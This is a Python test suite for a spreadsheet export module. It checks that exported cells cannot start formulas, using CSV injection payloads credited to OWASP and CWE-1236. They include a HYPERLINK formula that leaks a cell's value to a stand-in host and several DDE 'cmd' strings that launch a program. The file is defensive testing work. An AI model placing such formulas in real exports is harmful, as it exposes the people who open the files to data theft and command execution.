import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from campaigner.display import drawn
from campaigner.spreadsheets import FORMULA_START, SpreadsheetWriter, cell

# Payloads from OWASP's CSV Injection page and CWE-1236.
ATTACKS = [
    '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_formulas_become_text() -> None:
    for attack in ATTACKS:
        assert cell(attack) == "'" + drawn(attack)
    assert cell("\t=1+1") == "'\t=1+1" and cell("\r=1+1") == "'␍=1+1"


def test_control_characters_are_drawn_but_lines_kept() -> None:
    assert cell("\x1b[2JSara\x07") == "␛[2JSara␇"
    assert cell("two\nlines") == "two\nlines"


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    for value in ("-12.5", "+989121234567", "1e-3", "-.5", "سارا", "Mary-Ann", "a=b", ""):
        assert cell(value) == value
    assert cell(None) == "" and cell(-3) == "-3"


@given(st.lists(st.text(), max_size=6))
def test_no_written_cell_starts_a_formula_and_nothing_is_lost(row: list[str]) -> None:
    out = io.StringIO()
    SpreadsheetWriter(out).writerow(row)
    out.seek(0)
    (read,) = list(csv.reader(out)) or [[]]
    if not row:
        return
    assert len(read) == len(row)
    for original, written in zip(row, read, strict=True):
        assert written in (drawn(original), "'" + drawn(original))
        if written.startswith(FORMULA_START):
            float(written)  # only a plain number may start with a sign


def test_every_field_is_quoted_so_a_separator_cannot_start_a_cell() -> None:
    out = io.StringIO()
    SpreadsheetWriter(out, lineterminator="\n").writerow(["Sara;=1+1", 7])
    assert out.getvalue() == '"Sara;=1+1","7"\n'
